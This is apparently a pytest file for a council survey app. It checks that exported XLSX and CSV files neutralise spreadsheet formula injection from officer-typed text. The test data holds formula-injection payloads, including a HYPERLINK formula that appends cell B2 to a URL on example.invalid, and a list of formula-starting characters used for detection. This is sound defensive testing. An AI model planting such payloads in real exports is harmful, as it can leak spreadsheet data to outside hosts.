"""No cell of any file we write is a formula, whoever wrote its text.

A consultation's own words are typed by officers in the browser or uploaded as YAML, and they
reach every file: question numbers and texts head columns, scale labels fill every answer cell
of the raw responses. Here every text field of two definitions (two waves of one series) starts
with one of the characters a spreadsheet reads as the start of a formula; the definitions go
through the real loader, responses, a paper batch reference and a theme through the real store,
and every file the command line and the staff pages make is read back: no cell is a formula and
no text starts with such a character unless a `'` comes first (exports/safe.py). The loader
strips spaces, tabs and line breaks from the ends of a definition's text, so with those starts
the definition's words arrive plain; what a person typed keeps them.
"""
from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from conftest import REPO, STAFF_PASSWORD, hidden_fields
from openpyxl import load_workbook
from test_exports import tables_match_their_header_cells

from exports.safe import MAX_CELL, gate
from survey.cli import cli
from survey.definition import load_text
from survey.store.comments import create_theme, set_tag
from survey.store.db import connect
from survey.store.responses import save_response
from survey.store.users import add_user

STARTS = ["=", "+", "-", "@", "\t", "\r", "\uff1d"]
DANGEROUS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
SERIES = "gate-series"
GROUP_SIZE = 12     # per breakdown group: 2 x 12 = 24 responses, enough for every figure


def definition(s: str, wave: str) -> dict:
    """Every piece of text an officer can write, starting with `s`."""
    def choice(choice_id, label):
        return {"id": choice_id, "label": s + label}
    return {
        "id": f"gate-{wave}",
        "title": s + "Our title",
        "organisation": {"name": s + "Test Council"},
        "introduction": s + "For tests.",
        "series": SERIES,
        "wave": s + wave,
        "breakdown": "q1",
        "scales": {"marks": {
            "points": [choice("p1", "1+2"), choice("p2", "SUM(1,2)"), choice("p3", "Poor")],
            "top_count": 1, "top_label": s + "Good ones",
            "bottom_count": 1, "bottom_label": s + "Poor ones",
            "dont_know": s + "Not sure"}},
        "sections": [{"id": "s1", "title": s + "Your views", "intro": s + "About you",
                      "questions": [
            {"id": "q1", "number": s + "1", "type": "single_choice", "text": s + "Who are you",
             "hint": s + "Pick one", "options": [choice("a", "In care"),
                                                 choice("b", "A care leaver")],
             "other": s + "Other"},
            {"id": "q2", "number": s + 'HYPERLINK("https://example.invalid/?"&B2,"Open")',
             "type": "likert", "text": s + "How is it", "scale": "marks",
             "comment": s + "Anything more",
             "statements": [{"id": "st1", "text": s + "School", "comment": s + "Tell us more"},
                            {"id": "st2", "text": s + "Home"}]},
            {"id": "q3", "number": s + "3", "type": "multiple_choice", "text": s + "What helps",
             "options": [choice("x", "Friends"), choice("y", "Staff")], "other": s + "Else"},
            {"id": "q4", "number": s + "4", "type": "long_text", "text": s + "Anything else"},
        ]}],
    }


def answers(s: str, index: int) -> list[tuple[str, str, str]]:
    typed = f"{s}typed {index}"
    return [("q1", "", "a" if index % 2 else "b"),
            ("q2", "st1", ["p1", "p2", "p3", "dont-know"][index % 4]),
            ("q2", "st2", ["p1", "p2", "p3"][index % 3]),
            ("q2", "st1#comment", typed), ("q2", "#comment", typed),
            ("q3", "", "x"), ("q3", "", "other"), ("q3", "other", typed),
            ("q4", "", typed)]


@pytest.fixture(params=STARTS, ids=repr)
def start(request) -> str:
    return request.param


@pytest.fixture
def questionnaires(tmp_path, start) -> Path:
    """The app's folder holds the two waves of the gate series, and nothing else."""
    folder = tmp_path / "questionnaires"
    folder.mkdir()
    for wave in ("2025", "2026"):
        text = yaml.safe_dump(definition(start, wave), allow_unicode=True, sort_keys=False)
        load_text(text)   # the real loader takes every field
        (folder / f"gate-{wave}.yaml").write_text(text, encoding="utf-8")
    return folder


@pytest.fixture
def stored(app, questionnaires, start):
    """Responses to both waves, a paper batch among them, a theme on a comment."""
    db = connect(app.config["DATABASE"])
    for wave in ("2025", "2026"):
        questionnaire = load_text((questionnaires / f"gate-{wave}.yaml").read_text("utf-8"))
        for index in range(2 * GROUP_SIZE):
            response_id, _ = save_response(
                db, questionnaire, answers(start, index), f"{wave}-{index}",
                channel="paper" if index < 2 else "online",
                batch=f"{start}Batch {index}" if index < 2 else "")
        theme = create_theme(db, questionnaire.id, start + "Theme one")
        set_tag(db, questionnaire, (response_id, "q4", ""), theme, True)
    db.conn.close()


def bad_text(value) -> bool:
    return isinstance(value, str) and value.startswith(DANGEROUS)


def workbook_problems(data: bytes) -> list[str]:
    """Every formula cell, every text cell starting like a formula, and every chart title or
    series name doing the same, in a workbook's bytes."""
    problems = []
    workbook = load_workbook(io.BytesIO(data))
    tables_match_their_header_cells(workbook)
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" or bad_text(cell.value):
                    problems.append(f"{ws.title}!{cell.coordinate}: {cell.value!r}")
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/charts/"):
                texts = re.findall(r"<(?:a:t|c:v)>([^<]*)</", z.read(name).decode())
                problems += [f"{name}: {t!r}" for t in texts if bad_text(t)]
            if name.startswith("xl/worksheets/sheet") and "<f>" in z.read(name).decode():
                problems.append(f"{name}: a formula")
    return problems


def csv_problems(text: str) -> list[str]:
    return [f"line {n}: {field!r}" for n, row in enumerate(csv.reader(io.StringIO(text)), 1)
            for field in row if bad_text(field)]


# The charts' font has no full-width "＝": the picture shows a box there, which is not what is tested.
@pytest.mark.filterwarnings("ignore:Glyph 65309:UserWarning")
def test_no_file_holds_a_formula_whatever_a_definition_says(app, stored, start, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    common = ["--db", app.config["DATABASE"], "--questionnaires", app.config["QUESTIONNAIRES"]]
    for command in (["report", "gate-2026", "--out", str(out / "results.xlsx")],
                    ["export", "gate-2026", "--csv", str(out / "raw.csv"),
                     "--xlsx", str(out / "raw.xlsx")],
                    ["compare", SERIES, "--out", str(out / "waves.xlsx")]):
        result = CliRunner().invoke(cli, command + common, catch_exceptions=False)
        assert result.exit_code == 0, result.output

    # The same files from the staff pages, downloaded by an officer.
    client = app.test_client()
    db = connect(app.config["DATABASE"])
    add_user(db, "officer1", STAFF_PASSWORD, "officer")
    db.conn.close()
    page = client.get("/staff/sign-in")
    client.post("/staff/sign-in", data={**hidden_fields(page.text), "username": "officer1",
                                        "password": STAFF_PASSWORD})
    files = {name: (out / name).read_bytes()
             for name in ("results.xlsx", "raw.xlsx", "waves.xlsx", "raw.csv")}
    for name in ("results.xlsx", "raw-responses.xlsx", "raw-responses.csv"):
        sent = client.get(f"/staff/c/gate-2026/{name}")
        assert sent.status_code == 200, name
        files[f"page {name}"] = sent.data

    problems = {name: (csv_problems(data.decode("utf-8-sig")) if name.endswith(".csv")
                       else workbook_problems(data)) for name, data in files.items()}
    assert problems == {name: [] for name in files}

    # What was checked holds the definition's words: a chart with a title and series names,
    # every group's figures (12 each, none hidden), the waves' statements.
    with zipfile.ZipFile(io.BytesIO(files["results.xlsx"])) as z:
        chart = z.read("xl/charts/chart1.xml").decode()
    assert "How is it" in chart and "SUM(1,2)" in chart
    results = load_workbook(io.BytesIO(files["results.xlsx"]))
    by_type = [str(v) for r in results["By respondent type"].iter_rows(values_only=True)
               for v in r]
    assert "12 responses" in by_type and any(v.endswith("A care leaver") for v in by_type)
    waves = [str(v) for r in load_workbook(io.BytesIO(files["waves.xlsx"]))["Waves"].iter_rows(
        values_only=True) for v in r]
    assert any(v.endswith("School") for v in waves) and any("2025 n" in v for v in waves)

    # The words are all there, as text: the quote in front is the only change.
    raw = list(csv.reader(io.StringIO(files["raw.csv"].decode("utf-8-sig"))))
    header, first = raw[1], raw[2]
    words = "" if start in "\t\r" else start   # the loader strips these from the definition
    quote = "'" if words else ""
    statement = f'{quote}{words}HYPERLINK("https://example.invalid/?"&B2,"Open").1 {words}School'
    assert first[header.index(statement)] == f"{quote}{words}1+2"   # response 1 picked p1
    assert f"'{start}Batch 0" in first and f"'{start}typed 0" in first

def test_the_gate_is_the_only_way_a_row_reaches_a_file():
    """exports/cells.py gates every workbook value and exports.safe.csv_writer every CSV field
    (the invitation codes' file too); a writer appending to a worksheet or making its own
    csv.writer anywhere in the app would step round them."""
    for path in [p for room in ("exports", "survey", "analysis") for p in (REPO / room).rglob("*.py")]:
        source = path.read_text()
        if path.name != "cells.py":
            assert not re.search(r"\bws\.append\b", source), path.name
        if path.name != "safe.py":
            assert not re.search(r"\bcsv\.writer\b", source), path.name


@pytest.mark.parametrize("typed", ["=1+2", "\t=1", "#N/A", "bad\x0bchar", "x" * (MAX_CELL + 9),
                                   "=" + "x" * MAX_CELL, "plain"])
def test_the_gate_gives_the_same_text_when_passed_twice(typed):
    # A cell made by exports.cells.cell is gated again when its row is appended.
    assert gate(gate(typed)) == gate(typed) and not gate(typed).startswith(DANGEROUS)


def test_the_gate_passes_numbers_and_dates_and_refuses_anything_else():
    for value in (None, 0, -3, 2.5, True, Decimal("1.5"), date(2026, 1, 5),
                  datetime(2026, 1, 5, 9, 30)):
        assert gate(value) == value
    with pytest.raises(TypeError, match="a cell holds text, a number or a date, not list"):
        gate(["=1+2"])
